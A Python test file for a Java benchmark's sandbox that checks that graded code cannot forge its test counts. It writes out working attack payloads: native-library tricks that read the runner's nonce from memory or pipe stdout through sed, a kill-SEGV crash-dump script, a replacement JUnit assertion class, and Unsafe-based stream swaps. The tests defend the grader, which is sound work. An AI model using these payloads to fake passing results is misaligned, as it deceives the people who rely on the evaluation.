"""JavaBench's test JVMs against code that reaches into their memory: the runner's nonce and
its kept stdout live there, beside the code under test, so any way in forges a verdict.

- Native libraries (every project): the image holds three copies of the JDK's (the full JDK's,
  both test runtimes'), all readable, and a class loader of the program's own may define a class
  named like the JDK's (`sun.nio.ch.IOUtil`) that loads another copy of `libnio.so` with
  `System.load`: its native methods are then the JDK's C functions on raw file descriptors and
  addresses. A hostile review (stop 32) swapped the runner's stdout for a pipe into `sed` with
  `setfdVal`, and read the nonce out of memory with `write0`: a wrong class passed, 70 of 70.
  The runner's security manager (TestJvmSecurity in tasks/JavaBenchSecurity.java) now lets only
  the JDK's own classes load libraries.
- Classes defined first (every project): JUnit's, Mockito's, the runner's and the tests' classes
  share unnamed modules, which are open, so the tests' code may define a class of their packages
  (privateLookupIn(...).defineClass) before it loads: a third review defined JUnit's
  AssertionFailureBuilder with a buildAndThrow that returns. The runner now loads every class
  of its class path and of the project's before the tests run.
- A crash report (every project): the JVM's hs_err file dumps the crashed thread's stack, where
  a second review caught the runner's counts line with its nonce. Reports go to /dev/null and
  the driver takes counts only from a JVM that exited 0.
- PA22's Mockito runtime: Objenesis makes its mocks without running their constructors through
  `sun.reflect.ReflectionFactory` (jdk.unsupported), so that runtime kept jdk.unsupported, and
  code in it took `sun.misc.Unsafe` or a TRUSTED `MethodHandles.Lookup` (the JDK's factory makes
  any constructor accessible) and swapped the stream under the runner's `System.out` for one
  that rewrote the counts line (found by a hostile review, stop 31). The runtime now has no
  jdk.unsupported: a module of the image's own offers Objenesis the one call it makes, for
  class-path classes only (sandbox/images/ReflectionFactory.java).

Each attack passed the wrong class before its defence (checked), and fails it now."""

import base64

import pytest

from codeeval.tasks.javabench import JavaBench
from codeeval.tasks.sources import DataSource
from test_javabench import java_sandbox
from test_javabench_server import program, the_tests_step, with_static_block, wrong_wall

# Classes named like the JDK's, which the native attacks define in a class loader of their own
# (base64 of each class file, compiled by the java image's javac): their native methods bind
# to the libnio.so their loader loads (another runtime's copy; the test runtime's own is its
# boot loader's already)
NATIVE_HELPERS = {
    "IOUtil": """package sun.nio.ch;
public class IOUtil {
    static {
        for (String copy : new String[] {"/usr/lib/jvm/java-17-openjdk-amd64/lib/libnio.so",
                                         "/usr/lib/jvm/codeeval-tests/lib/libnio.so"}) {
            try { System.load(copy); break; } catch (UnsatisfiedLinkError e) { }
        }
        initIDs();
    }
    public static native void initIDs();
    public static native void setfdVal(java.io.FileDescriptor fd, int value);
    public static native long makePipe(boolean blocking);
}
""",
    "FileDispatcherImpl": """package sun.nio.ch;
public class FileDispatcherImpl {
    public static native int write0(java.io.FileDescriptor fd, long address, int length)
            throws java.io.IOException;
}
"""}
DEFINE_HELPERS = r"""
  class Own extends ClassLoader {
    Own() { super(Thread.currentThread().getContextClassLoader()); }
    Class<?> define(String base64) { byte[] b = java.util.Base64.getDecoder().decode(base64); return defineClass(null, b, 0, b.length); }
  }
  Own own = new Own();
  Class<?> io = own.define("@@IOUtil@@"), dispatcher = own.define("@@FileDispatcherImpl@@");
  long pipe = (Long) io.getMethod("makePipe", boolean.class).invoke(null, true);
"""
# The runner's stdout (fd 1 under FileDescriptor.out) made the write end of a pipe into `sed`,
# which rewrites the counts line to all passing on its way to the driver
THROUGH_SED = r"""
try {
""" + DEFINE_HELPERS + r"""
  new ProcessBuilder("sed", "-u", "-E",
      "s/^([0-9a-f]{32}) counts ([0-9]+) [0-9]+ [0-9]+ [0-9]+$/\\1 counts \\2 \\2 0 0/")
      .redirectInput(new java.io.File("/proc/self/fd/" + (int) (pipe >>> 32)))
      .redirectOutput(ProcessBuilder.Redirect.INHERIT).redirectError(ProcessBuilder.Redirect.INHERIT).start();
  io.getMethod("setfdVal", java.io.FileDescriptor.class, int.class).invoke(null, java.io.FileDescriptor.out, (int) pipe);
} catch (Throwable e) { e.printStackTrace(); }
"""
# The JVM's writable memory written into a pipe (write0 takes any address) and read back: every
# 32-hex string in it printed with passing counts on stderr, the runner's stdout closed
NONCE_FROM_MEMORY = r"""
try {
""" + DEFINE_HELPERS + r"""
  java.io.FileDescriptor sink = new java.io.FileDescriptor();
  io.getMethod("setfdVal", java.io.FileDescriptor.class, int.class).invoke(null, sink, (int) pipe);
  java.io.InputStream source = new java.io.FileInputStream("/proc/self/fd/" + (int) (pipe >>> 32));
  java.lang.reflect.Method write0 = dispatcher.getMethod("write0", java.io.FileDescriptor.class, long.class, int.class);
  java.util.Set<String> nonces = new java.util.LinkedHashSet<>();
  byte[] chunk = new byte[32768];
  for (String map : java.nio.file.Files.readAllLines(java.nio.file.Path.of("/proc/self/maps"))) {
    String[] f = map.split("\\s+");
    if (!f[1].startsWith("rw")) continue;
    long start = Long.parseUnsignedLong(f[0].split("-")[0], 16), end = Long.parseUnsignedLong(f[0].split("-")[1], 16);
    for (long at = start; at < end; at += chunk.length - 64) {
      int got;
      try { got = (Integer) write0.invoke(null, sink, at, (int) Math.min(chunk.length, end - at)); } catch (Exception e) { continue; }
      int n = source.readNBytes(chunk, 0, got), run = 0;
      for (int i = 0; i <= n; i++) {
        byte b = i < n ? chunk[i] : 0;
        if ((b >= '0' && b <= '9') || (b >= 'a' && b <= 'f')) { run++; continue; }
        if (run == 32) nonces.add(new String(chunk, i - 32, 32, java.nio.charset.StandardCharsets.ISO_8859_1));
        run = 0;
      }
    }
  }
  new java.io.FileOutputStream(java.io.FileDescriptor.out).close();
  for (String nonce : nonces) System.err.println("\n" + nonce + " counts 1 1 0 0");
  System.err.flush();
} catch (Throwable e) { e.printStackTrace(); }
"""

# The nonce from the JVM's own crash report (a hostile review, stop 32): a thread holds the
# runner's System.out until the tests end, stops the driver (same uid) and fills the socket to
# one write short, so that the runner's counts line blocks inside write(), in a native stack
# buffer; a shell then crashes the main thread (kill -SEGV), reads the line out of the "Top of
# Stack" dump in hs_err_pid*.log (the project directory), prints it with passing counts, and
# lets the JVM die. Closed by -XX:ErrorFile=/dev/null and by taking counts only from a JVM that
# exited 0.
CRASH_HELPER = r"""J=$1; T=$2; D=$3; F=hs_err_pid$J.log
kill -SEGV $T
sleep 0.2
kill -STOP $J
kill -CONT $D
i=0
while ! grep -q '^Instructions' $F 2>/dev/null; do
  kill -CONT $J; x=0; while [ $x -lt 200 ]; do x=$((x+1)); done; kill -STOP $J
  i=$((i+1)); [ $i -gt 20000 ] && break
done
L=$(awk 'BEGIN{h="0123456789abcdef"} /^Top of Stack/{on=1;next} on&&/^ *$/{on=0} on{for(k=2;k<=NF;k++){w=$k; if(length(w)!=16)continue; for(j=15;j>=1;j-=2){b=(index(h,substr(w,j,1))-1)*16+index(h,substr(w,j+1,1))-1; s=s ((b>=32&&b<127)?sprintf("%c",b):"|")}}} END{for(p=1;p<=length(s)-40;p++){t=substr(s,p,32); if(t ~ /^[0-9a-f]+$/ && (substr(s,p+32,8)==" counts " || substr(s,p+32,9)==" failure ")){r=substr(s,p+40); split(r,a," "); n=(substr(s,p+32,8)==" counts " && a[1] ~ /^[0-9]+$/)?a[1]:70; print t " counts " n " " n " 0 0"; exit}}}' $F)
printf '\n%s\n' "$L"
sleep 0.5
kill -CONT $J
"""
CRASH_REPORT = r"""
try {
  final java.io.PrintStream orig = System.out;
  System.setOut(new java.io.PrintStream(java.io.OutputStream.nullOutputStream()));
  final Thread mainThread = Thread.getAllStackTraces().keySet().stream()
      .filter(x -> x.getName().equals("main")).findFirst().get();
  final String helper = new String(java.util.Base64.getDecoder().decode("@@CRASH_HELPER@@"), java.nio.charset.StandardCharsets.UTF_8);
  Thread t = new Thread(() -> {
    try {
      long jvm = ProcessHandle.current().pid();
      long driver = ProcessHandle.current().parent().get().pid();
      String tid = null;
      for (java.io.File f : new java.io.File("/proc/self/task").listFiles()) {
        String comm = java.nio.file.Files.readString(f.toPath().resolve("comm")).trim();
        if (comm.equals("java") && !f.getName().equals(String.valueOf(jvm))) tid = f.getName();
      }
      java.nio.file.Path sp = java.nio.file.Path.of("/tmp/cal" + jvm + ".sock");
      java.nio.channels.ServerSocketChannel ss = java.nio.channels.ServerSocketChannel.open(java.net.StandardProtocolFamily.UNIX);
      ss.bind(java.net.UnixDomainSocketAddress.of(sp));
      java.nio.channels.SocketChannel c = java.nio.channels.SocketChannel.open(java.net.UnixDomainSocketAddress.of(sp));
      java.nio.channels.SocketChannel s = ss.accept();
      c.configureBlocking(false);
      int n = 0;
      java.nio.ByteBuffer one = java.nio.ByteBuffer.allocateDirect(1);
      while (true) { one.clear(); one.put((byte) 10); one.flip(); if (c.write(one) == 0) break; n++; }
      synchronized (orig) {
        while (true) {
          StackTraceElement[] st = mainThread.getStackTrace();
          boolean atPrint = mainThread.getState() == Thread.State.BLOCKED && st.length > 0
              && st[0].getClassName().equals("java.io.PrintStream");
          boolean inMain = false;
          for (int i = 0; i < Math.min(4, st.length); i++) inMain |= st[i].getClassName().equals("JavaBenchTests");
          if (atPrint && inMain) break;
          Thread.sleep(5);
        }
        Thread.sleep(300);
        new ProcessBuilder("sh", "-c", "kill -STOP " + driver).start().waitFor();
        Thread.sleep(200);
        java.io.FileOutputStream fe = new java.io.FileOutputStream(java.io.FileDescriptor.err);
        for (int i = 0; i < n - 2; i++) fe.write(10);
      }
      int stable = 0;
      while (stable < 20) {
        StackTraceElement[] st = mainThread.getStackTrace();
        if (st.length > 0 && st[0].getMethodName().equals("writeBytes")) stable++; else stable = 0;
        Thread.sleep(10);
      }
      new ProcessBuilder("sh", "-c", helper, "sh", String.valueOf(jvm), tid, String.valueOf(driver))
          .redirectOutput(ProcessBuilder.Redirect.INHERIT).redirectError(ProcessBuilder.Redirect.INHERIT).start();
    } catch (Throwable e) { e.printStackTrace(); }
  });
  t.setDaemon(true);
  t.start();
} catch (Throwable e) { e.printStackTrace(); }
"""

# JUnit's AssertionFailureBuilder (which JUnit loads at the first failed assertion) defined first
# by the tests' code, in JUnit's package (open: an unnamed module) through privateLookupIn, with
# a buildAndThrow that returns: every failed assertion passed (a third hostile review, stop 32)
NO_FAILURES = """package org.junit.jupiter.api;
public class AssertionFailureBuilder {
    public static AssertionFailureBuilder assertionFailure() { return new AssertionFailureBuilder(); }
    public AssertionFailureBuilder message(Object o) { return this; }
    public AssertionFailureBuilder reason(String o) { return this; }
    public AssertionFailureBuilder cause(Throwable o) { return this; }
    public AssertionFailureBuilder expected(Object o) { return this; }
    public AssertionFailureBuilder actual(Object o) { return this; }
    public AssertionFailureBuilder includeValuesInMessage(boolean o) { return this; }
    public void buildAndThrow() { }
    public org.opentest4j.AssertionFailedError build() { return new org.opentest4j.AssertionFailedError(""); }
}
"""
DEFINED_FIRST = r"""
try {
  Class<?> anchor = Class.forName("org.junit.jupiter.api.Assertions", false, Thread.currentThread().getContextClassLoader());
  java.lang.invoke.MethodHandles.privateLookupIn(anchor, java.lang.invoke.MethodHandles.lookup())
      .defineClass(java.util.Base64.getDecoder().decode("@@CLASS@@"));
} catch (Throwable e) { e.printStackTrace(); }
"""

# An OutputStream around the runner's own stdout stream (`inner`) that rewrites its counts line
# ("NONCE counts RUN SUCCEEDED UNREPORTED TIMED_OUT") to all passing: what the attacks install.
REWRITER = r"""
  final java.io.OutputStream inner = (java.io.OutputStream) current;
  Object rewriter = new java.io.OutputStream() {
    final java.io.ByteArrayOutputStream line = new java.io.ByteArrayOutputStream();
    public void write(int b) throws java.io.IOException {
      if (b != '\n') { line.write(b); return; }
      String text = line.toString(java.nio.charset.StandardCharsets.UTF_8);
      line.reset();
      text = text.replaceAll("^([0-9a-f]{32}) counts (\\d+) \\d+ \\d+ \\d+$", "$1 counts $2 $2 0 0");
      inner.write((text + "\n").getBytes(java.nio.charset.StandardCharsets.UTF_8));
    }
    public void flush() throws java.io.IOException { inner.flush(); }
  };
"""
# sun.misc.Unsafe (jdk.unsupported): the field under System.out swapped in place
THROUGH_UNSAFE = r"""
try {
  java.lang.reflect.Field out = java.io.FilterOutputStream.class.getDeclaredField("out");
  Class<?> type = Class.forName("sun.misc.Unsafe");
  java.lang.reflect.Field field = type.getDeclaredField("theUnsafe");
  field.setAccessible(true);
  Object unsafe = field.get(null);
  long offset = (Long) type.getMethod("objectFieldOffset", java.lang.reflect.Field.class).invoke(unsafe, out);
  Object current = type.getMethod("getObject", Object.class, long.class).invoke(unsafe, System.out, offset);
""" + REWRITER + r"""
  type.getMethod("putObject", Object.class, long.class, Object.class).invoke(unsafe, System.out, offset, rewriter);
} catch (Throwable e) { e.printStackTrace(); }
"""
# sun.reflect.ReflectionFactory (jdk.unsupported): Lookup's private constructor made accessible,
# a TRUSTED lookup made with it, and the field set through a VarHandle
THROUGH_TRUSTED_LOOKUP = r"""
try {
  Class<?> type = Class.forName("sun.reflect.ReflectionFactory");
  Object factory = type.getMethod("getReflectionFactory").invoke(null);
  java.lang.reflect.Constructor<?> constructor = java.lang.invoke.MethodHandles.Lookup.class
      .getDeclaredConstructor(Class.class, Class.class, int.class);
  java.lang.reflect.Constructor<?> opened = (java.lang.reflect.Constructor<?>) type.getMethod(
      "newConstructorForSerialization", Class.class, java.lang.reflect.Constructor.class)
      .invoke(factory, java.lang.invoke.MethodHandles.Lookup.class, constructor);
  java.lang.invoke.MethodHandles.Lookup trusted =
      (java.lang.invoke.MethodHandles.Lookup) opened.newInstance(Object.class, null, -1);
  java.lang.invoke.VarHandle handle = trusted.findVarHandle(
      java.io.FilterOutputStream.class, "out", java.io.OutputStream.class);
  Object current = handle.get(System.out);
""" + REWRITER + r"""
  handle.set(System.out, rewriter);
} catch (Throwable e) { e.printStackTrace(); }
"""
# Objenesis's own way to sun.misc.Unsafe (a public method of the library on the class path)
THROUGH_OBJENESIS = THROUGH_UNSAFE.replace(
    """java.lang.reflect.Field field = type.getDeclaredField("theUnsafe");
  field.setAccessible(true);
  Object unsafe = field.get(null);""",
    """Object unsafe = Class.forName("org.objenesis.instantiator.util.UnsafeUtils")
      .getMethod("getUnsafe").invoke(null);""")
ATTACKS = {"sun.misc.Unsafe": THROUGH_UNSAFE,
           "a trusted Lookup from sun.reflect.ReflectionFactory": THROUGH_TRUSTED_LOOKUP,
           "sun.misc.Unsafe from Objenesis": THROUGH_OBJENESIS}
assert THROUGH_OBJENESIS != THROUGH_UNSAFE


@pytest.fixture(scope="module")
def problems(benchmarks):
    return {p.task_id: p for p in JavaBench().load(DataSource(benchmarks))}


@pytest.fixture(scope="module")
def engine(problems):
    """PA22's TerminalRenderingEngine: its tests mock GameState with Mockito."""
    return problems["PA22/TerminalRenderingEngine.java"]


def in_java_image(script: str) -> str:
    """What a shell script prints in a container of the java image (as root, no network)."""
    from codeeval.sandbox.engine import docker_client
    from codeeval.sandbox.images import IMAGES
    from test_javabench import require_java_image
    require_java_image()
    return docker_client().containers.run(IMAGES["java"]().tag, ["sh", "-c", script],
                                          network_mode="none", remove=True).decode()


def compiled(sources: dict[str, str], classpath: str = "") -> dict[str, str]:
    """Each class file (base64), compiled by the java image's javac from `sources` (class
    name with its package's path -> source)."""
    writes = " && ".join(
        f"mkdir -p $(dirname {name}) && "
        f"echo {base64.b64encode(source.encode()).decode()} | base64 -d > {name}.java"
        for name, source in sources.items())
    printed = in_java_image(
        f"mkdir -p /tmp/c && cd /tmp/c && {writes} && javac --release 17 -d out "
        + (f"-cp {classpath} " if classpath else "")
        + " ".join(f"{name}.java" for name in sources) + " && "
        + " && ".join(f"base64 -w0 out/{name}.class && echo" for name in sources))
    return dict(zip(sources, printed.split()))


def with_native_helpers(statements: str) -> str:
    """The attack's statements with NATIVE_HELPERS compiled in."""
    classes = compiled({f"sun/nio/ch/{name}": source for name, source in NATIVE_HELPERS.items()})
    for name, class_file in classes.items():
        statements = statements.replace(f"@@{name.rsplit('/', 1)[1]}@@", class_file)
    return statements


def wrong(source: str) -> str:
    broken = source.replace("charToPrint = '#';", "charToPrint = '?';")
    assert broken != source
    return broken


def test_code_in_a_test_jvm_cannot_load_a_native_library(problems, engine):
    wall = problems["PA19/Wall.java"]
    attacks = {"PA19, the nonce read from memory": (wall, wrong_wall, NONCE_FROM_MEMORY),
               "PA22, the nonce read from memory": (engine, wrong, NONCE_FROM_MEMORY),
               "PA22, the runner's stdout through sed": (engine, wrong, THROUGH_SED)}
    honest = {wall.task_id: program(wall, wrong_wall(wall.data["canonical"]), 0),
              engine.task_id: program(engine, wrong(engine.data["canonical"]), 1)}
    attacked = [program(problem, broken(with_static_block(problem.data["canonical"],
                                                          with_native_helpers(statements))),
                        2 + index)
                for index, (problem, broken, statements) in enumerate(attacks.values())]
    with java_sandbox(parallel=2) as box:
        executions = {e.key: e for e in box.run([*honest.values(), *attacked])}
    expected = {task_id: the_tests_step(executions[p.key]) for task_id, p in honest.items()}
    assert all(0 < step["successes"] < step["tests"] for step in expected.values()), expected
    for (name, (problem, _, _)), attack in zip(attacks.items(), attacked):
        execution = executions[attack.key]
        step = the_tests_step(execution)
        assert execution.status == "failed", (name, execution.message)
        assert (step["tests"], step["successes"]) == (expected[problem.task_id]["tests"],
                                                      expected[problem.task_id]["successes"]), (name, step)


def test_the_classes_of_junit_and_the_tests_cannot_be_defined_first(problems, engine):
    [stub] = compiled({"org/junit/jupiter/api/AssertionFailureBuilder": NO_FAILURES},
                      classpath="/usr/share/java/opentest4j.jar").values()
    statements = DEFINED_FIRST.replace("@@CLASS@@", stub)
    wall = problems["PA19/Wall.java"]
    programs = [program(wall, wrong_wall(wall.data["canonical"]), 0),
                program(wall, wrong_wall(with_static_block(wall.data["canonical"], statements)), 1),
                program(engine, wrong(engine.data["canonical"]), 2),
                program(engine, wrong(with_static_block(engine.data["canonical"], statements)), 3)]
    with java_sandbox(parallel=2) as box:
        executions = {e.key: e for e in box.run(programs)}
    steps = [the_tests_step(executions[p.key]) for p in programs]
    assert all(executions[p.key].status == "failed" for p in programs), steps
    assert steps[1]["successes"] == steps[0]["successes"] < steps[0]["tests"], steps
    assert steps[3]["successes"] == steps[2]["successes"] < steps[2]["tests"], steps


def test_a_crash_report_gives_nothing_away(problems):
    wall = problems["PA19/Wall.java"]
    statements = CRASH_REPORT.replace(
        "@@CRASH_HELPER@@", base64.b64encode(CRASH_HELPER.encode()).decode())
    honest = program(wall, wrong_wall(wall.data["canonical"]), 0)
    attacked = program(wall, wrong_wall(with_static_block(wall.data["canonical"], statements)), 1)
    with java_sandbox(parallel=2) as box:
        executions = {e.key: e for e in box.run([honest, attacked])}
    assert 0 < the_tests_step(executions[honest.key])["successes"] < 55
    assert executions[attacked.key].status == "failed", executions[attacked.key].message


def assert_attacks_change_nothing(problem, canonical: str, wrong: str, attacked: dict[str, str]):
    """The canonical class passes; the wrong one fails some of its tests and passes others;
    each attacked wrong class (name -> source) fails with the wrong one's counts."""
    programs = [program(problem, canonical, 0), program(problem, wrong, 1)]
    programs += [program(problem, text, 2 + index) for index, text in enumerate(attacked.values())]
    with java_sandbox(parallel=2) as box:
        executions = {e.key: e for e in box.run(programs)}
    canonical_run, wrong_run, *attacks = (executions[p.key] for p in programs)
    assert canonical_run.status == "passed", canonical_run.message
    wrong_step = the_tests_step(wrong_run)
    assert wrong_run.status == "failed" and 0 < wrong_step["successes"] < wrong_step["tests"]
    for name, execution in zip(attacked, attacks):
        step = the_tests_step(execution)
        assert execution.status == "failed", (name, execution.message)
        assert (step["tests"], step["successes"]) == (wrong_step["tests"],
                                                      wrong_step["successes"]), (name, step)


def test_code_in_mockitos_test_jvm_cannot_forge_its_counts(engine):
    # Mockito works in the runtime (the tests mock and spy GameState)
    canonical = engine.data["canonical"]
    assert_attacks_change_nothing(
        engine, canonical, wrong(canonical),
        {name: wrong(with_static_block(canonical, statements))
         for name, statements in ATTACKS.items()})


# What the runtime's ReflectionFactory makes (Objenesis's way in: its instantiator for HotSpot),
# one line a case: an object of a class-path class without its constructor run, and a refusal
# for a JDK class, for a class-path class that extends one, and for a constructor other than
# Object's (the JDK's factory made Lookup's private one accessible)
FACTORY_PROBE = r"""
public class Probe {
    public static class Plain { public boolean built; public Plain() { built = true; } }
    public static class OwnThread extends Thread { }
    static void attempt(String name, java.util.concurrent.Callable<Object> make) {
        try {
            Object made = make.call();
            System.out.println(name + " made " + made.getClass().getName());
        } catch (Throwable e) {
            while (e.getCause() != null) e = e.getCause();   // Objenesis wraps what it met
            System.out.println(name + " refused " + e.getClass().getSimpleName());
        }
    }
    public static void main(String[] args) throws Exception {
        org.objenesis.Objenesis objenesis = new org.objenesis.ObjenesisStd(false);
        attempt("class-path", () -> objenesis.newInstance(Plain.class));
        System.out.println("constructor ran " + ((Plain) objenesis.newInstance(Plain.class)).built);
        attempt("jdk", () -> objenesis.newInstance(java.util.ArrayList.class));
        attempt("extends-jdk", () -> objenesis.newInstance(OwnThread.class));
        attempt("lookup-constructor", () -> {
            Class<?> type = Class.forName("sun.reflect.ReflectionFactory");
            Object factory = type.getMethod("getReflectionFactory").invoke(null);
            return type.getMethod("newConstructorForSerialization", Class.class,
                                  java.lang.reflect.Constructor.class).invoke(factory,
                java.lang.invoke.MethodHandles.Lookup.class,
                java.lang.invoke.MethodHandles.Lookup.class.getDeclaredConstructor(
                    Class.class, Class.class, int.class));
        });
        attempt("unsafe", () -> Class.forName("sun.misc.Unsafe"));
    }
}
"""


def test_the_runtimes_reflection_factory_makes_only_class_path_objects():
    from codeeval.sandbox.images import MOCKITO_RUNTIME
    source = base64.b64encode(FACTORY_PROBE.encode()).decode()
    output = in_java_image(
        f"mkdir /tmp/probe && cd /tmp/probe && echo {source} | base64 -d > Probe.java && "
        "javac -cp /usr/share/java/objenesis.jar Probe.java && "
        f"{MOCKITO_RUNTIME}/bin/java -cp /usr/share/java/objenesis.jar:. Probe")
    assert output.splitlines() == [
        "class-path made Probe$Plain", "constructor ran false",
        "jdk refused UnsupportedOperationException",
        "extends-jdk refused UnsupportedOperationException",
        "lookup-constructor refused UnsupportedOperationException",
        "unsafe refused ClassNotFoundException"], output
